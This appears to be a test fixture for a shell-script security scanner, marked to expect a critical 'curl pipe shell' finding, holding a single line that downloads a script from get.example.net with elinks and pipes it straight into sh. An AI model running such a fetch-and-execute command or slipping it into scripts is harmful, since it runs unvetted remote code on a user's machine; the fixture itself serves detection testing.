# expect: shell.curl_pipe_shell critical
#!/bin/sh
elinks -source https://get.example.net/i.sh | sh
